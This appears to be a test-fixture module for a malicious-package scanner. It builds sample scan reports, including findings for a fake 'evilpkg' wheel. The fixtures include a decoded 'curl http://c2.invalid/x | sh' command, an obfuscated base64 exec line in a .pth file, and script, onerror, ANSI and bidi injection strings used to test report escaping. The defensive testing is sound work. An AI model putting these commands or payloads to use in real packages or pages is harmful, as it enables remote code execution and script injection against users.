"""Reports built in code for the report tests: a blocked scan, an empty one, hostile strings everywhere."""

from __future__ import annotations

import datetime as dt

from chainwarden.models import (
    ArtifactKind,
    ArtifactRef,
    ArtifactResult,
    ArtifactStats,
    Confidence,
    DecodedStage,
    EntryPoint,
    Evidence,
    Finding,
    Location,
    PackageMetadata,
    RecordEntry,
    ScanReport,
    Severity,
    Trigger,
    Unscanned,
    Verdict,
)
from chainwarden.policy import Ignore, Policy

TODAY = dt.date(2026, 11, 26)
SHA = "ab" * 32

#: Every trick a package author can put in a name, a path or a snippet.
ANSI = "\x1b[2J\x1b]0;pwned\x07"
BIDI = "\u202e"
HOSTILE = (
    f"<script>alert(1)</script>{ANSI}{BIDI}evil\u2066 | `tick` **bold** [x](https://evil.invalid) "
    "@octocat &amp; \r\n# heading\x00\x9b31m \udcff"
)
SCRIPT_FILE = "<script>alert(1)</script>.py"


def finding(
    rule_id: str = "CW102",
    severity: Severity = Severity.CRITICAL,
    *,
    path: str = "evilpkg_init.pth",
    line: int | None = 1,
    column: int | None = None,
    trigger: Trigger = Trigger.INTERPRETER_START,
    message: str = "Executable .pth line runs hidden code",
    snippet: str = "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))",
    decoded: tuple[DecodedStage, ...] = (),
    capabilities: tuple[str, ...] = (),
    artifact: str = "evilpkg-1.0-py3-none-any.whl",
    confidence: Confidence = Confidence.HIGH,
    detail: tuple[tuple[str, str], ...] = (),
) -> Finding:
    return Finding(
        rule_id=rule_id,
        severity=severity,
        message=message,
        location=Location(artifact=artifact, path=path, line=line, column=column),
        trigger=trigger,
        confidence=confidence,
        evidence=Evidence(snippet=snippet, decoded=decoded, detail=detail),
        capabilities=capabilities,
        analyzer="pth",
        analyzer_version="1",
    )


def wheel_result(findings: tuple[Finding, ...], *, name: str = "evilpkg", unscanned: tuple[Unscanned, ...] = ()) -> ArtifactResult:
    filename = f"{name}-1.0-py3-none-any.whl"
    return ArtifactResult(
        ref=ArtifactRef(ArtifactKind.WHEEL, f"/tmp/dist/{filename}", filename, sha256=SHA),
        metadata=PackageMetadata(
            name=name,
            version="1.0",
            summary="a package",
            requires_dist=("requests>=2",),
            entry_points=(EntryPoint("console_scripts", name, f"{name}:main"),),
            record=(RecordEntry(f"{name}/__init__.py", "sha256=AAAA", 10),),
            project_urls=(("Homepage", "https://example.invalid/"),),
        ),
        findings=findings,
        unscanned=unscanned,
        stats=ArtifactStats(files=4, bytes=1234, analyzed_files=3, cache_hits=1, seconds=0.01),
    )


def malicious_findings() -> tuple[Finding, ...]:
    return (
        finding(
            decoded=(
                DecodedStage("base64", "import os"),
                DecodedStage("zlib", "os.system('curl http://c2.invalid/x | sh')"),
            ),
            capabilities=("exec", "network"),
            detail=(("python", "3.8-3.14"),),
        ),
        finding(
            "CW101",
            Severity.HIGH,
            path="evilpkg/__init__.py",
            line=3,
            column=4,
            trigger=Trigger.IMPORT,
            message="Code at import opens a socket",
            snippet="s = socket.create_connection(('127.0.0.1', 9))",
            capabilities=("network",),
        ),
        finding(
            "CW013",
            Severity.LOW,
            path="evilpkg/link",
            line=None,
            trigger=Trigger.NONE,
            message="Archive contains a link",
            snippet="",
            confidence=Confidence.MEDIUM,
        ),
    )


def sample() -> ScanReport:
    """A blocked scan: a malicious wheel, a clean installed dist, a directory with a gap, an error."""
    evil = wheel_result(malicious_findings())
    clean = ArtifactResult(
        ref=ArtifactRef(ArtifactKind.INSTALLED, "/venv/lib/python3.12/site-packages", "okpkg", subject="okpkg-2.0.dist-info"),
        metadata=PackageMetadata(name="okpkg", version="2.0"),
        findings=(),
        stats=ArtifactStats(files=7),
    )
    gap = ArtifactResult(
        ref=ArtifactRef(ArtifactKind.DIRECTORY, "/src/project", "project"),
        metadata=None,
        findings=(
            finding(
                "CW300",
                Severity.INFO,
                path="project/_native.so",
                line=None,
                trigger=Trigger.NONE,
                message="Native binaries at expected places",
                snippet="",
                artifact="project",
            ),
        ),
        unscanned=(Unscanned("project", "data/huge.bin", "larger than the 1 GiB member limit"),),
        stats=ArtifactStats(files=12),
    )
    return ScanReport(
        tool_version="0.1.0",
        started="2026-11-26T06:00:00+00:00",
        results=(evil, clean, gap),
        errors=("nosuchpkg==9.9: not found on the index",),
        seconds=0.5,
    )


def verdict_for(report: ScanReport, *, fail_on: Severity = Severity.HIGH, ignores: tuple[Ignore, ...] = ()) -> Verdict:
    return Policy(fail_on=fail_on, ignores=ignores).evaluate(report, today=TODAY)


def hostile() -> ScanReport:
    """Attacker-controlled text in every field a package author can reach."""
    bad = Finding(
        rule_id="CW102",
        severity=Severity.CRITICAL,
        message=f"message {HOSTILE}",
        location=Location(artifact=HOSTILE, path=f"{HOSTILE}/{SCRIPT_FILE}", line=2, column=0),
        trigger=Trigger.IMPORT,
        evidence=Evidence(
            snippet=f"snippet {HOSTILE}\n```\n</pre></details><img src=x onerror=alert(2)>",
            # models.Evidence.digest encodes `method` strictly, so it gets no lone surrogate here.
            decoded=(DecodedStage(f"method {HOSTILE.replace(chr(0xDCFF), '')}", f"preview {HOSTILE}"),),
            detail=((f"key {HOSTILE}", f"value {HOSTILE}"),),
        ),
        capabilities=(f"cap {HOSTILE}",),
        analyzer="test",
        analyzer_version="1",
    )
    script = finding("CW101", Severity.HIGH, path=SCRIPT_FILE, line=1, trigger=Trigger.IMPORT, message="m")
    result = ArtifactResult(
        ref=ArtifactRef(ArtifactKind.WHEEL, f"/tmp/{HOSTILE}.whl", f"label {HOSTILE}", subject=HOSTILE),
        metadata=PackageMetadata(name=f"name {HOSTILE}", version=f"1.0{HOSTILE}", summary=HOSTILE),
        findings=(bad, script),
        unscanned=(Unscanned(HOSTILE, f"path {HOSTILE}", f"reason {HOSTILE}"),),
    )
    return ScanReport(
        tool_version="0.1.0",
        started="2026-11-26T06:00:00+00:00",
        results=(result,),
        errors=(f"error {HOSTILE}",),
    )


def empty() -> ScanReport:
    return ScanReport(tool_version="0.1.0", started="2026-11-26T06:00:00+00:00", results=())


